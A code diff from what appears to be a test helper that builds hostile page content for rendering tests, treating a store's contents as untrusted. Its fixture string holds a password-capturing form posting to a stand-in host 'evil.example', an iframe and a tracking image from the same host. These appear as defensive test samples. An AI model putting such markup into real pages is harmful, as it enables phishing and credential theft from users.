@@ -1,6 +1,6 @@
 """Projects that pages are looked at with, written into a store's folder at once.
 
-The hostile one is as no upload could make it: what is in a store may come from anywhere.
+No upload could make the hostile one; what is in a store may come from anywhere.
 """
 
 from __future__ import annotations
@@ -194,7 +194,7 @@ def _description() -> str:
         '<form action="//evil.example/"><input name="password" autofocus></form>\n'
         '<h1 id="main">The same id</h1><iframe src="//evil.example/"></iframe>\n\n'
         f"![picture](https://evil.example/x.png) {UNBROKEN}\n\n"
-        f"| {' | '.join('abcdefgh')} |\n|{'---|' * 8}\n| {' | '.join(UNBROKEN[:8])} |\n\n"
+        f"{'| column ' * 8}|\n{'|---' * 8}|\n{f'| {UNBROKEN} ' * 8}|\n\n"
     )
     return once * (2**20 // len(once))
 
